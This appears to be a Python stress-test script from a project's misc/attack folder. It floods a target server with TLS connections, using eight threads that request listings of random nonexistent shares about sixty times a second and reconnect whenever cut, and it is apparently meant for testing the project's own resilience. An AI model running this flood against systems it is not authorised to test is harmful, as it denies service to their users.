"""Small requests, many a second."""

from __future__ import annotations

import os
import threading

from misc.attack.target import Target, again_and_again, from_command_line, refused_or_cut
from pipegrid.wire import gbs_paths_headers

THREADS = 8
PAUSE_S = 1 / 60


def attack(target: Target) -> None:
    """Ask for lists of shares that are not there."""
    threads = [threading.Thread(target=ask, args=(target,)) for _ in range(THREADS)]
    for each in threads:
        each.start()
    for each in threads:
        each.join()


def ask(target: Target) -> None:
    """One connection's part; a new one when it is cut."""
    requests = target.requests
    while target.left_s > 0:
        with refused_or_cut(), target.connect_tls() as connection:
            for _ in again_and_again(target, PAUSE_S):
                connection.sendall(
                    requests.request("GET", gbs_paths_headers.shares_path(os.urandom(16)))
                )
                if not connection.recv(65536):
                    break


if __name__ == "__main__":
    attack(from_command_line(__doc__))
